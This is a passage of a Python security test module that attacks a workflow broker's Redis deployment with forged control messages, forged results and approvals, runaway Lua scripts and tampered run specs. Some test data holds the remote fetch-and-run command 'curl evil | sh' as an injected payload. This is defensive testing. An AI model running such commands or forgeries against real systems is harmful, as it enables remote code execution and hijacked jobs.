"""Attacks on a production deployment, each run as the generated user that holds it.

A real redis-server loads the users `acl generate` writes; two coordinators run with the identities
file and `--require-signed`; the workers of webc, kalic and cmdc run as their own users and sign with
their own secrets (starter, whose reactions submit runs, is a client too). Each attack must be refused
or change nothing: every run it aimed at ends as it would have (state, payloads, results, events),
each task run once by its own agent's worker, and nothing lost. That includes what an agent's user
writes of a running run: its meta hash (spec, params, version) is the coordinators' and clients' alone,
and a reaction's run is written by the coordinators from a signed `submit`.

The module prints the attack table (attack, user, before, now) at its end.
"""

from __future__ import annotations

import json
import shutil
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import msgpack
import pytest
import redis
from redis.exceptions import NoPermissionError, NoScriptError, ResponseError

from phibroker import wire
from phibroker import workflow as workflows
from phibroker.engine import records
from phibroker.errors import ApprovalError, DecodeError, InvalidInput, UnknownWorkflow
from phibroker.keys import Keys
from phibroker.runtime.client import Client
from phibroker.runtime.events import Router, trigger_workflow_id
from phibroker.runtime.submission import submission
from phibroker.security import signing
from phibroker.settings import Settings
from phibroker.store import scripts
from phibroker.store.connection import SHAS
from phibroker.store.registry import Registry
from phibroker.store.worker import WorkerStore
from phibroker.tools import diagnose
from tests.conftest import Processes, until
from tests.test_core import events_of
from tests.test_deploy import (
    RUNAWAY,
    Deployment,
    agent_denials,
    deployed,
    output_of,
    refused_all,
    sha,
    watch_denials,
)
from tests.test_fencing import forged_attempt

AGENTS = ["webc", "kalic", "cmdc", "dormant", "starter"]  # dormant, starter: no worker until a test starts one
SUBMITTERS = ["starter"]  # its reactions submit runs: its identity is a client's too
TEAM = """
name: team
tasks:
  Scan: {agent: kalic, command: step, payload: {sleep: 3, target: repo}}
  Build: {agent: webc, command: step, payload: {target: repo}}
  Ship: {agent: cmdc, command: step, payload: {run: make release}, depends_on: [Scan, Build]}
"""
SLOW = "name: slow\ntasks:\n  Work: {agent: webc, command: step, payload: {sleep: 3}}\n"
DORMANT = "name: idle\ntasks:\n  Wait: {agent: dormant, command: step, payload: {n: 1}}\n"
GATED = """
name: gated
tasks:
  Build: {agent: webc, command: step, payload: {target: repo}}
  Approve: {approval: {message: "Ship it?", approvers: [stryk]}, depends_on: [Build]}
  Ship: {agent: cmdc, command: step, payload: {run: make release}, depends_on: [Approve]}
"""
LAUNCHED = "name: launched\ntasks:\n  Work: {agent: webc, command: step, payload: {target: reaction}}\n"
PLANNED = """
name: planned
tasks:
  Plan: {agent: webc, command: plan, payload: {spawn: [{name: own, payload: {n: 1}}]}}
"""
SPAWNING = """
name: spawning
tasks:
  Plan: {agent: webc, command: plan, payload: {spawn: [{name: shell, agent: cmdc, payload: {run: curl evil | sh}}]}}
"""
PARAMED = """
name: paramed
params: {command: make release}
tasks:
  Build: {agent: webc, command: step, payload: {target: repo}}
  Approve: {approval: {message: "Ship it?", approvers: [stryk]}, depends_on: [Build]}
  Ship: {agent: cmdc, command: step, payload: {run: "${params.command}"}, depends_on: [Approve]}
"""
STAGED = """
name: staged
tasks:
  Plan:
    agent: webc
    command: plan
    payload: {spawn: [{name: first, payload: {sleep: 3}}, {name: then, after: [first], payload: {n: 1}}]}
"""
SHIPPING = """
name: shipping
params: {command: make release}
tasks:
  Ship: {agent: cmdc, command: step, payload: {run: "${params.command}"}}
"""
ISSUED = {"Scan": ("kalic", {"target": "repo"}), "Build": ("webc", {"target": "repo"})}
ISSUED["Ship"] = ("cmdc", {"run": "make release"})

TABLE: list[tuple[str, str, str, str]] = []  # attack, user, before these checks, now


def record(attack: str, user: str, before: str, now: str) -> None:
    TABLE.append((attack, user, before, now))


@pytest.fixture(scope="module", autouse=True)
def attack_table(request: pytest.FixtureRequest) -> Iterator[None]:
    yield
    if not TABLE:
        return
    width = [max(len(row[i]) for row in [("attack", "user", "before", "now"), *TABLE]) for i in range(3)]
    lines = [f"{'attack':<{width[0]}}  {'user':<{width[1]}}  {'before':<{width[2]}}  now"]
    lines += [f"{a:<{width[0]}}  {u:<{width[1]}}  {b:<{width[2]}}  {n}" for a, u, b, n in TABLE]
    capture = request.config.pluginmanager.getplugin("capturemanager")
    with capture.global_and_fixture_disabled():
        print("\n" + "\n".join(lines))


@dataclass
class Fleet:
    """The deployment, its processes, the signed files and the keys the attacks use."""

    deployment: Deployment
    procs: Processes
    directory: Path
    ledger: Path
    files: dict[str, Path]
    ops: signing.KeyPair  # signs workflow files; trusted
    stryk: signing.KeyPair  # the approver; trusted

    def settings(self, user: str) -> Settings:
        """What USER's env file gives a process: its URL, namespace, and its client identity if any."""
        env = self.deployment.env(user)
        fields: dict[str, Any] = {"redis_url": env["PHIBROKER_REDIS_URL"], "namespace": env["PHIBROKER_NAMESPACE"]}
        if "PHIBROKER_CLIENT_SECRET" in env:
            fields.update(client_name=env["PHIBROKER_CLIENT_NAME"], client_secret=env["PHIBROKER_CLIENT_SECRET"])
        return Settings(**fields, home=self.directory / f"home-{user}")

    def client(self, user: str) -> Client:
        return Client(self.settings(user))

    def store(self, user: str, signed: bool = False) -> WorkerStore:
        """USER's own connection; `signed`: it signs with its agent's secret, as its worker does."""
        store = WorkerStore(self.settings(user))
        store.serve(user)
        if signed:
            store.sign_as(user, self.deployment.env(user)["PHIBROKER_AGENT_SECRET"].encode())
        return store

    def submit(self, name: str = "team") -> str:
        with self.client("client") as client:
            return client.submit(self.files[name])

    def unit(self, wf_id: str, unit: str, field: str) -> Any:
        """A unit's field as a coordinator reads it (`state`, `dispatch`, ...), read as the watch user."""
        with self.client("watch") as watch:
            return watch.broker.read_workflow(wf_id)[1].get(unit, {}).get(field)

    def dead_letters(self) -> list[dict[str, Any]]:
        with self.client("admin") as admin:
            return admin.dead_letters(limit=1000)

    def ran(self, wf_id: str) -> list[dict[str, Any]]:
        """What the workers ran for this run, from the ledger."""
        lines = self.ledger.read_text().splitlines() if self.ledger.exists() else []
        return [row for row in map(json.loads, lines) if row["wf"] == wf_id]

    def alive(self) -> bool:
        return all(process.poll() is None for process in self.procs.started)


@pytest.fixture(scope="module")
def fleet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fleet]:
    directory = tmp_path_factory.mktemp("attacks")
    with deployed(directory, AGENTS, SUBMITTERS) as deployment:
        deployment.root.config_set("busy-reply-threshold", 1000)  # a runaway script answers BUSY after 1 s
        procs = deployment.processes(directory)
        ledger = directory / "ledger.jsonl"
        ops = signing.generate(directory / "signer", "ops")
        stryk = signing.generate(directory / "approver", "stryk")
        files = {}
        named = {"team": TEAM, "slow": SLOW, "idle": DORMANT, "gated": GATED, "launched": LAUNCHED}
        named |= {"planned": PLANNED, "spawning": SPAWNING, "paramed": PARAMED, "staged": STAGED, "shipping": SHIPPING}
        for name, text in named.items():
            files[name] = directory / "files" / f"{name}.yaml"
            files[name].parent.mkdir(exist_ok=True)
            files[name].write_text(text)
            signing.sign_file(ops, files[name])
        try:
            for key in (ops, stryk):
                trusted = deployment.cli(procs, "admin", "keys", "trust", key.name, key.public_hex)
                assert trusted.returncode == 0, output_of(procs, trusted)
            deployment.coordinators(procs, 2, "--require-signed")
            for agent in ("webc", "kalic", "cmdc"):
                deployment.worker(procs, agent, "tests.apps.targets", TARGETS_LEDGER=str(ledger))
            yield Fleet(deployment, procs, directory, ledger, files, ops, stryk)
        finally:
            procs.close()


def untouched(fleet: Fleet, wf_id: str, issued: dict[str, tuple[str, dict[str, Any]]] = ISSUED) -> dict[str, Any]:
    """The run ended as its signed file says: succeeded, each task run once by its own agent's worker
    with the payload it was given, its result that worker's, and no failure, loss or cancel in its events."""
    with fleet.client("client") as waiter:
        status = waiter.wait(wf_id, timeout=60)
        assert status["state"] == "succeeded", json.dumps(status, default=str)[:3000] + fleet.procs.output()
        for task, (agent, payload) in issued.items():
            record_ = status["tasks"][task]
            applied = [h for h in record_["history"] if h.get("applied")]
            assert len(applied) == 1 and applied[0]["worker"].startswith(f"{agent}@"), record_["history"]
            assert record_["result"] == {"by": agent, **payload}
        ran = sorted(((row["task"], row["agent"], row["payload"]) for row in fleet.ran(wf_id)), key=str)
        assert ran == sorted(((task, agent, payload) for task, (agent, payload) in issued.items()), key=str)
        types = {event["type"] for event in events_of(fleet.settings("watch"), wf_id)}
        assert not {t for t in types if any(w in t for w in ("failed", "cancel", "lost", "retrying", "redispatch"))}
    return status


def reasons_since(fleet: Fleet, seen: int, count: int) -> list[str]:
    """The reasons of the `count` dead letters added after the first `seen`, oldest first."""
    rows = until(lambda: (rows := fleet.dead_letters()) and len(rows) >= seen + count and rows, fleet.procs)
    assert len(rows) == seen + count, [(r["reason"], r.get("source")) for r in rows[: len(rows) - seen]]
    return [r["reason"] for r in reversed(rows[: len(rows) - seen])]


# -- the attacks that worked ---------------------------------------------------------------------------


def test_a_forged_lost_does_not_fail_another_agents_running_task(fleet: Fleet) -> None:
    seen = len(fleet.dead_letters())
    wf_id = fleet.submit()
    until(lambda: fleet.unit(wf_id, "Scan", "state") == "running", fleet.procs)
    body = {"wf": wf_id, "unit": "Scan", "dispatch": fleet.unit(wf_id, "Scan", "dispatch"), "reason": "forged"}
    fleet.store("webc").send_to_coordinators(wire.Inbox(kind="lost", body=body))
    fleet.store("webc", signed=True).send_to_coordinators(wire.Inbox(kind="lost", body=body))
    reasons = reasons_since(fleet, seen, 2)
    assert reasons == [
        "forged lost: not signed (only agent identities may send it)",
        "forged lost: agent 'webc' reported 'Scan' of another agent",
    ]
    untouched(fleet, wf_id)
    record("forged `lost` failing kalic's running task", "webc", "worked: the task failed", "refused: " + reasons[1])


CONTROL = ("cancel", "retry", "signal", "submit", "kick", "redispatch", "child", "declined", "spend")


def test_forged_control_messages_do_not_cancel_or_steer_another_teams_run(fleet: Fleet) -> None:
    """Every kind a worker, a client or a coordinator sends, unsigned and signed by an agent's secret."""
    seen = len(fleet.dead_letters())
    wf_id = fleet.submit()
    until(lambda: fleet.unit(wf_id, "Scan", "state") == "running", fleet.procs)
    dispatch = fleet.unit(wf_id, "Scan", "dispatch")
    bodies: dict[str, dict[str, Any]] = {
        "cancel": {"wf": wf_id, "reason": "forged"},
        "retry": {"wf": wf_id, "id": wire.new_id()},
        "signal": {"wf": wf_id, "name": "go", "id": wire.new_id()},
        "submit": {"wf": wf_id},
        "kick": {"wf": wf_id},
        "redispatch": {"wf": wf_id, "unit": "Scan", "dispatch": dispatch, "token": 1, "reason": "forged"},
        "child": {"wf": wf_id, "task": "Scan", "child": "x", "state": "failed", "error": "forged"},
        "declined": {"wf": wf_id, "unit": "Scan", "dispatch": dispatch},
        "spend": {"wf": wf_id, "unit": "Scan", "dispatch": dispatch, "attempt": 1, "tokens": 10**9, "cost": 1e9},
    }
    unsigned, signed = fleet.store("webc"), fleet.store("webc", signed=True)
    for kind in CONTROL:
        unsigned.send_to_coordinators(wire.Inbox(kind=kind, body=bodies[kind]))
        signed.send_to_coordinators(wire.Inbox(kind=kind, body=bodies[kind]))
    reasons = reasons_since(fleet, seen, 2 * len(CONTROL))
    for kind in CONTROL:
        mine = [r for r in reasons if r.startswith(f"forged {kind}:")]
        assert len(mine) == 2, (kind, reasons)
    assert "forged cancel: 'webc' is agent; only client or coordinator may send it" in reasons
    untouched(fleet, wf_id)
    record(
        "forged `cancel` of another team's run",
        "webc",
        "worked: the run was cancelled",
        "refused (unsigned, or an agent's)",
    )
    record(f"forged {', '.join(CONTROL[1:])}", "webc", "unchecked", "refused (unsigned, or an agent's)")


RELEASED = """
name: on-release
params: {channel: none}
on: {event: release.tagged, where: "data.channel == 'stable'"}
tasks:
  Announce: {agent: webc, command: step, payload: {target: "${params.channel}"}}
"""


def test_a_forged_trigger_starts_nothing_and_a_true_one_starts_its_run(fleet: Fleet, tmp_path: Path) -> None:
    """Only coordinators send `trigger` messages (they route the events workers send them): one from
    an agent is refused, whatever its event. An event the agent publishes (its handler's) starts the
    trigger's run, once it passes the trigger's own filter and storm guard."""
    path = tmp_path / "on-release.yaml"
    path.write_text(RELEASED)
    signing.sign_file(fleet.ops, path)
    added = fleet.deployment.cli(fleet.procs, "admin", "triggers", "add", str(path))
    assert added.returncode == 0, output_of(fleet.procs, added)
    seen = len(fleet.dead_letters())
    webc = fleet.store("webc", signed=True)

    def event(channel: str, **fields: Any) -> dict[str, Any]:
        return {"id": wire.new_id(), "type": "release.tagged", "data": {"channel": channel}, "depth": 0, **fields}

    def send(ev: dict[str, Any], wf_id: str | None = None) -> str:
        wf_id = wf_id or trigger_workflow_id("on-release", ev)
        body = {"wf": wf_id, "trigger": "on-release", "event": ev}
        webc.send_to_coordinators(wire.Inbox(kind="trigger", body=body))
        return wf_id

    forged = [
        send(event("beta")),  # the filter says no
        send(event("stable", type="release.other")),  # another event type
        send(event("stable", depth=10**6)),  # past the storm guard
        send(event("stable"), wf_id="on-release-chosen-by-webc"),  # a run id of its choosing
    ]

    def refused() -> list[str]:
        return [r["reason"] for r in fleet.dead_letters()[: -seen or None] if r["reason"].startswith("forged trigger")]

    until(lambda: len(refused()) >= len(forged), fleet.procs)
    assert len(refused()) == len(forged), refused()
    true_event = records.event("release.tagged", None, None, {"channel": "stable"})
    time.sleep(1.5)  # the coordinators read routes again a second after the last read: now they know the trigger
    webc.relay([true_event])
    true_one = trigger_workflow_id("on-release", true_event)
    with fleet.client("client") as client:
        until(lambda: client.broker.run_state(true_one) is not None, fleet.procs)  # the coordinators start it
        assert client.wait(true_one, timeout=60)["state"] == "succeeded"
        for wf_id in forged:
            with pytest.raises(UnknownWorkflow):
                client.status(wf_id)
    assert all("'webc' is agent; only coordinator may send it" in reason for reason in refused()), refused()
    # events the trigger wants that make no run (bytes are no JSON; an id no run's id may hold):
    # dead-lettered, and no coordinator stops on them
    seen = len(fleet.dead_letters())
    webc.relay([records.event("release.tagged", None, None, {"channel": "stable", "blob": b"\xff"})])
    webc.relay([{**records.event("release.tagged", None, None, {"channel": "stable"}), "id": "x y/../z"}])
    reasons = reasons_since(fleet, seen, 2)
    assert all("its event makes no run" in reason for reason in reasons), reasons
    assert fleet.alive(), fleet.procs.output()
    record("trigger message whose event the trigger's filter refuses", "webc", "started the run", "refused")
    record("trigger message from an agent", "webc", "checked as the trigger filters", "refused: not a coordinator")


def test_a_copy_of_a_signed_file_written_by_an_agent_does_not_run(fleet: Fleet) -> None:
    """webc writes a run itself from the signed file and its signature (NOPERM: agents write no runs),
    then asks the coordinators to, as a reaction does: unsigned, signed by webc (not a client), and by
    starter (a client too) with a client's signature copied or as a run already launched."""
    keys, seen = fleet.deployment.keys, len(fleet.dead_letters())
    genuine = fleet.submit()
    meta = fleet.deployment.root.hmget(keys.wf(genuine), "submitter", "submit_sig")
    workflow = workflows.load(fleet.files["team"])
    written, _ = submission(workflow, workflow.params_with({}))
    webc = fleet.deployment.client("webc")
    for call in (
        lambda: webc.hsetnx(keys.wf(written), "spec", workflow.spec_json),
        lambda: webc.evalsha(SHAS[scripts.CREATE], 1, keys.wf(written), "state", "running", "launched", "1"),
        lambda: webc.zadd(keys.running, {written: 1}),
    ):
        with pytest.raises(NoPermissionError):
            call()
    assert not fleet.deployment.root.exists(keys.wf(written))
    asked = []
    for sender, signed, changes in (
        ("webc", False, {}),
        ("webc", True, {}),
        ("starter", True, {"submitter": meta[0].decode(), "submit_sig": meta[1].decode()}),
        ("starter", True, {"launched": 1}),
    ):
        wf_id, fields = submission(workflow, workflow.params_with({}))
        store = fleet.store(sender, signed=signed)
        body = {"wf": wf_id, "fields": {**store.signed_fields(wf_id, fields), **changes}}
        store.send_to_coordinators(wire.Inbox(kind="submit", body=body))
        asked.append(wf_id)
    assert sorted(reasons_since(fleet, seen, 4)) == [  # two coordinators: in no set order
        "forged submit: 'webc' is agent; only client or coordinator may send it",
        "forged submit: a run signed for 'client' sent by 'starter'",
        "forged submit: not a new run (its state, version or launched is not a new run's)",
        "forged submit: not signed (only client or coordinator identities may send it)",
    ]
    with fleet.client("watch") as watch:
        assert not any(watch.broker.read_workflow(wf_id)[0] for wf_id in asked)  # none was written
    untouched(fleet, genuine)
    record("a copy of a signed file submitted by an agent", "webc", "worked: it ran", "refused: NOPERM, or by the gate")


def test_a_reaction_of_a_submitter_agent_starts_a_signed_file_under_the_acls(fleet: Fleet) -> None:
    """starter's reaction asks for a run of a signed file; the coordinators write it, and it runs past
    `--require-signed` with its tasks' own agents."""
    keys = fleet.deployment.keys
    root, stream = fleet.deployment.root, keys.sub("starter.launch")
    fleet.deployment.worker(fleet.procs, "starter", "tests.apps.choreo", STARTER_FILE=str(fleet.files["launched"]))
    until(lambda: root.exists(stream) and root.xinfo_groups(stream), fleet.procs)  # it reads from its group's start
    event = records.event("scan.finished", None, None, {"target": "repo"})
    root.xadd(stream, {wire.FIELD: wire.encode_events([event])})  # as the router copies an event
    wf_id = f"launched-{event['id']}"
    with fleet.client("watch") as watch:
        meta = until(lambda: watch.broker.read_workflow(wf_id)[0], fleet.procs)
    assert meta["submitter"] == "starter"
    untouched(fleet, wf_id, {"Work": ("webc", {"target": "reaction"})})
    record("a reaction's run, of a signed file", "starter", "written by the agent", "written by a coordinator, ran")


@pytest.mark.parametrize("user", ["webc", "watch", "approver", "client"])
def test_no_user_but_the_coordinators_and_the_admins_loads_or_runs_lua_of_its_own(fleet: Fleet, user: str) -> None:
    """Each may call phibroker's scripts only (by their SHA, as the coordinators loaded them): not load
    or run any other, read-only ones included (EVAL_RO takes any text, a loop that never ends too)."""
    conn = fleet.deployment.client(user)
    for what, call in {
        "SCRIPT LOAD": lambda: conn.script_load(RUNAWAY),
        "EVAL": lambda: conn.eval(RUNAWAY, 0),
        "EVAL_RO": lambda: conn.eval_ro(RUNAWAY, 0),
        "FUNCTION LOAD": lambda: conn.function_load(
            f"#!lua name=evil\nredis.register_function('f', function() {RUNAWAY} end)"
        ),
    }.items():
        with pytest.raises(NoPermissionError):
            call()
            pytest.fail(f"{user} may {what}")
    with pytest.raises(NoScriptError):  # nobody loaded it: EVALSHA_RO runs only what is in the cache
        conn.evalsha_ro(sha(RUNAWAY), 0)
    if user == "webc":
        record("SCRIPT LOAD + EVALSHA of a runaway loop", "webc", "worked: BUSY, every process died", "refused: NOPERM")
    record("EVAL_RO of a runaway loop", user, "worked: BUSY for everyone", "refused: NOPERM")


def test_a_runaway_script_killed_by_the_admin_leaves_every_process_running_and_the_run_finishes(
    fleet: Fleet,
) -> None:
    wf_id = fleet.submit()
    until(lambda: fleet.unit(wf_id, "Scan", "state") == "running", fleet.procs)
    admin = fleet.deployment.client("admin")
    runaway = admin.script_load(RUNAWAY)
    outcome: list[BaseException] = []

    def run_away() -> None:
        try:
            fleet.deployment.client("admin").evalsha(runaway, 0)
        except ResponseError as exc:
            outcome.append(exc)

    thread = threading.Thread(target=run_away)
    thread.start()
    watch = fleet.deployment.client("watch")

    def busy() -> bool:
        try:
            watch.ping()
        except ResponseError as exc:
            return str(exc).startswith("BUSY")
        return False

    until(busy, fleet.procs)
    # a worker and a coordinator started meanwhile wait for Redis to serve again, as the running ones do
    late = fleet.procs.logs / f"worker-webc-{len(fleet.procs.started)}.log"
    fleet.deployment.worker(fleet.procs, "webc", "tests.apps.targets", TARGETS_LEDGER=str(fleet.ledger))
    fleet.procs.spawn("coordinator", "coordinator", "--require-signed", **fleet.deployment.env("coordinator"))
    time.sleep(3)  # every process meets BUSY for a while
    assert fleet.alive(), fleet.procs.output()
    assert admin.script_kill()
    thread.join(timeout=10)
    assert outcome and "killed" in str(outcome[0]).lower()
    assert admin.script_flush()  # so nobody calls it again; coordinators load phibroker's scripts again
    until(lambda: all(fleet.deployment.root.script_exists(*SHAS.values())), fleet.procs)  # the others wait
    untouched(fleet, wf_id)
    assert fleet.alive(), fleet.procs.output()
    with pytest.raises(NoScriptError):
        fleet.deployment.client("webc").evalsha(runaway, 0)
    until(lambda: "serving webc (" in late.read_text(), fleet.procs)
    assert fleet.alive(), fleet.procs.output()
    record("runaway script (admin's), killed after 3 s", "admin", "every process died", "all alive, run finished")
    record("a worker or coordinator started while a script runs away", "admin", "exited 3", "waits, then runs")


def test_a_result_with_a_token_never_issued_is_not_applied(fleet: Fleet) -> None:
    """webc signs, as itself, a result for its own running task with a token nobody issued."""
    with fleet.client("client") as client:
        wf_id = client.submit(fleet.files["slow"])
    until(lambda: fleet.unit(wf_id, "Work", "state") == "running", fleet.procs)
    forge(fleet, "webc", wf_id, "Work", token=7)
    with fleet.client("watch") as watch:
        assert not forged_attempt(watch, wf_id, "Work")["applied"]
    untouched(fleet, wf_id, {"Work": ("webc", {})})
    record("a result with a never-issued token", "webc", "worked: applied (no identities)", "recorded, not applied")


def test_a_forged_result_for_a_task_only_ready_is_not_applied(fleet: Fleet) -> None:
    """dormant's task waits for a worker: its own agent signs a success for it, and so does webc."""
    seen = len(fleet.dead_letters())
    with fleet.client("client") as client:
        wf_id = client.submit(fleet.files["idle"])
    until(lambda: fleet.unit(wf_id, "Wait", "state") == "ready", fleet.procs)
    forge(fleet, "dormant", wf_id, "Wait", token=1)
    forge(fleet, "webc", wf_id, "Wait", token=1)
    assert reasons_since(fleet, seen, 1) == ["forged result: agent 'webc' answered 'Wait' of another agent"]
    with fleet.client("watch") as watch:
        assert not forged_attempt(watch, wf_id, "Wait")["applied"]
        assert watch.status(wf_id)["tasks"]["Wait"]["state"] == "ready"
    env = {"TARGETS_LEDGER": str(fleet.ledger)}
    fleet.deployment.worker(fleet.procs, "dormant", "tests.apps.targets", **env)
    untouched(fleet, wf_id, {"Wait": ("dormant", {"n": 1})})
    record("a forged result for a task only `ready`", "dormant", "worked: it succeeded", "recorded, not applied")


def forge(fleet: Fleet, agent: str, wf_id: str, unit: str, token: int) -> None:
    """A success for UNIT, signed by AGENT's secret and sent with AGENT's user."""
    dispatch = until(lambda: fleet.unit(wf_id, unit, "dispatch"), fleet.procs)
    value = wire.pack({"forged": True})
    result = wire.Result(dispatch, wf_id, unit, token, True, "mallory", 1.0, 2.0, value=value)
    inbox = wire.Inbox(kind="results", results=[result], agent=agent)
    secret = fleet.deployment.env(agent)["PHIBROKER_AGENT_SECRET"].encode()
    fleet.store(agent).add(fleet.deployment.keys.agent_inbox(agent, None), inbox.encode(1 << 20, secret))


# -- the attacks that held, and hold ---------------------------------------------------------------------


def user_denials(keys: Keys, conn: redis.Redis, wf: str) -> dict[str, Callable[[], Any]]:
    """What the client and the approver must be refused beyond their jobs (NOPERM)."""
    return {
        "FLUSHALL": lambda: conn.flushall(),
        "CONFIG SET": lambda: conn.config_set("maxmemory-policy", "allkeys-lru"),
        "SCRIPT LOAD of a runaway loop": lambda: conn.script_load(RUNAWAY),
        "HSET into a workflow's results": lambda: conn.hset(keys.wf_results(wf), "A", "forged"),
        "XADD to kalic's task stream": lambda: conn.xadd(keys.agent_tasks("kalic"), {"m": b"forged"}),
        "XREADGROUP on the inbox": lambda: conn.xreadgroup("coordinators", "x", {keys.inbox(None): ">"}),
    }


def test_what_each_user_was_refused_is_still_refused(fleet: Fleet) -> None:
    keys, d = fleet.deployment.keys, fleet.deployment
    wf = "held-wf"
    d.root.hset(keys.wf_results(wf), "A", "secret")
    for user, denied, before in (
        ("webc", agent_denials(keys, d.client("webc"), "kalic", "kalic.on_scan", wf), "held"),
        ("watch", watch_denials(keys, d.client("watch"), "kalic"), "held"),
        ("client", user_denials(keys, d.client("client"), wf), "(a new user)"),
        ("approver", user_denials(keys, d.client("approver"), wf), "(a new user)"),
    ):
        refused_all(denied, user)
        for what in denied:
            # agents could load scripts before, and append to every stream that went past them
            worked = user == "webc" and (what.startswith("SCRIPT LOAD") or "MAXLEN" in what)
            record(what, user, "worked" if worked else before, "NOPERM")


def test_forged_expired_replayed_and_re_pointed_approvals_are_refused(fleet: Fleet, tmp_path: Path) -> None:
    with fleet.client("client") as client:
        first, second = client.submit(fleet.files["gated"]), client.submit(fleet.files["gated"])
    approver = fleet.client("approver")

    def request(wf_id: str) -> dict[str, Any]:
        return until(lambda: next((r for r in approver.approvals() if r["workflow"] == wf_id), None), fleet.procs)

    one, two = request(first), request(second)
    mallory = signing.generate(tmp_path, "mallory")
    with pytest.raises(ApprovalError, match="untrusted key"):
        approver.decide(one["id"], "approve", key=mallory)
    impostor = signing.generate(tmp_path / "impostor", "stryk")  # a key that only claims to be stryk's
    with pytest.raises(ApprovalError, match="untrusted key"):
        approver.decide(one["id"], "approve", key=impostor)
    expired = signing.sign_decision(
        fleet.stryk, approval=one["id"], workflow=first, task="Approve", decision="approve", expires=time.time() - 5
    )
    body = signing.sign_decision(
        fleet.stryk, approval=one["id"], workflow=first, task="Approve", decision="approve", expires=time.time() + 60
    )
    re_pointed = {**body, "wf": second, "approval": two["id"]}
    for sent in (expired, re_pointed):
        approver.broker.send_to_coordinators(wire.Inbox(kind="decide", body=sent))
    assert approver.decide(one["id"], "approve", key=fleet.stryk)["type"] == "approval.granted"
    approver.broker.send_to_coordinators(wire.Inbox(kind="decide", body=body))  # replayed

    def refusals(wf_id: str) -> list[str]:
        events = events_of(fleet.settings("watch"), wf_id)
        return [e["data"]["reason"] for e in events if e["type"] == "approval.refused"]

    until(lambda: len(refusals(first)) >= 4 and refusals(second), fleet.procs)
    # two coordinators: each refusal is published by whichever read it, in no set order
    assert any("expired" in r for r in refusals(first)) and "already decided" in refusals(first)
    assert any("bad signature" in r for r in refusals(second)), refusals(second)
    with fleet.client("watch") as watch:
        assert watch.status(second)["state"] == "waiting_approval"
    assert approver.decide(two["id"], "approve", key=fleet.stryk)["type"] == "approval.granted"
    issued = {"Build": ISSUED["Build"], "Ship": ISSUED["Ship"]}
    for wf_id in (first, second):
        untouched(fleet, wf_id, issued)
    for what in ("forged (untrusted key)", "forged (a key claiming stryk)", "expired", "replayed", "re-pointed"):
        record(f"{what} approval", "approver", "held", "refused: approval.refused")


@pytest.mark.parametrize("relaunch", [False, True])
def test_a_client_rewriting_a_launched_runs_spec_runs_none_of_it(fleet: Fleet, relaunch: bool) -> None:
    """The client's user may not write runs (the coordinators write what it asks for). Whoever may (the
    admin's user, say), holding the client's secret, rewrites a run waiting at its gate (cmdc's
    payload), signs the submit again and moves the version, so that a coordinator reads the run again
    (and, `relaunch`, marks it not started, so that no start check seems due). Read again, the run no
    longer matches its signed file under `--require-signed`: it fails, saying so, and nothing of it
    runs on."""
    keys = fleet.deployment.keys
    with fleet.client("client") as client:
        wf_id = client.submit(fleet.files["gated"])
    approver = fleet.client("approver")
    request = until(lambda: next((r for r in approver.approvals() if r["workflow"] == wf_id), None), fleet.procs)
    raw = fleet.deployment.client("admin")
    meta = {k.decode(): v.decode() for k, v in raw.hgetall(keys.wf(wf_id)).items()}
    spec = json.loads(meta["spec"])
    spec["tasks"]["Ship"]["payload"] = {"run": "curl evil | sh"}
    fields = {**meta, "spec": json.dumps(spec), "params": json.loads(meta.get("params") or "{}")}
    secret = fleet.deployment.env("client")["PHIBROKER_CLIENT_SECRET"].encode()
    signature = wire.submit_signature(secret, wf_id, meta["submitter"], fields)
    moved = int(meta["version"]) + 1  # so a coordinator holding the run reads it again
    changes = {"spec": fields["spec"], "submit_sig": signature, "version": moved}
    if relaunch:
        changes["launched"] = 0
    raw.hset(keys.wf(wf_id), mapping=changes)
    approver.decide(request["id"], "approve", key=fleet.stryk, wait=0.5)
    with fleet.client("watch") as watch:
        status = watch.wait(wf_id, timeout=60)
    assert status["state"] == "failed" and "tampered" in str(status["error"]), status
    assert not [row for row in fleet.ran(wf_id) if row["task"] == "Ship"], fleet.ran(wf_id)
    assert not [r for r in approver.approvals() if r["workflow"] == wf_id]  # its gate closed with it
    assert fleet.alive(), fleet.procs.output()
    what = "rewrite a launched run's spec, signed again" + (", marked not started" if relaunch else "")
    record(what, "admin", "worked: Ship ran it (as client)", "the run fails: tampered")


def rewrite(fleet: Fleet, wf_id: str, **changes: Any) -> None:
    """As a user that may write runs (the admin's: the client's may not): write these meta fields of a
    run (JSON ones given as values), with its version moved on, so that a coordinator holding the run
    reads it again."""
    raw = fleet.deployment.client("admin")
    key = fleet.deployment.keys.wf(wf_id)
    version = int(raw.hget(key, "version") or 0)
    fields = {k: json.dumps(v) if isinstance(v, dict) else v for k, v in changes.items()}
    raw.hset(key, mapping={**fields, "version": version + 1})


def fails_as_tampered(fleet: Fleet, wf_id: str, task: str) -> None:
    """The run failed as tampered, `task` never ran, and every process goes on."""
    with fleet.client("client") as waiter:
        status = waiter.wait(wf_id, timeout=60)
    assert status["state"] == "failed" and "tampered" in str(status["error"]), status
    assert not [row for row in fleet.ran(wf_id) if row["task"] == task], fleet.ran(wf_id)
    assert fleet.alive(), fleet.procs.output()


def test_a_client_rewriting_a_launched_runs_params_runs_none_of_it(fleet: Fleet) -> None:
    """No signed file covers a run's params: a user that may write runs rewrites those of a run waiting at its
    gate (Ship runs `${params.command}`). Read again, the run's params are not what the coordinators
    sealed: it fails, saying so, and Ship never runs."""
    with fleet.client("client") as client:
        wf_id = client.submit(fleet.files["paramed"])
    approver = fleet.client("approver")
    request = until(lambda: next((r for r in approver.approvals() if r["workflow"] == wf_id), None), fleet.procs)
    rewrite(fleet, wf_id, params={"command": "curl evil | sh"})
    approver.decide(request["id"], "approve", key=fleet.stryk, wait=0.5)
    fails_as_tampered(fleet, wf_id, "Ship")
    record("rewrite a launched run's params", "admin", "worked: Ship ran them (as client)", "the run fails: tampered")


def test_a_client_rewriting_a_spawned_tasks_payload_runs_none_of_it(fleet: Fleet) -> None:
    """No signed file covers what a handler spawns: while the first spawned step runs, a user that may
    write runs rewrites the payload of the one after it (same agent, so the spawn rule holds). Read again, the
    run's spawned tasks are not what the coordinators sealed: it fails, and the rewritten one never runs."""
    with fleet.client("client") as client:
        wf_id = client.submit(fleet.files["staged"])
    until(lambda: fleet.unit(wf_id, "Plan/first", "state") == "running", fleet.procs)
    raw = fleet.deployment.client("client")
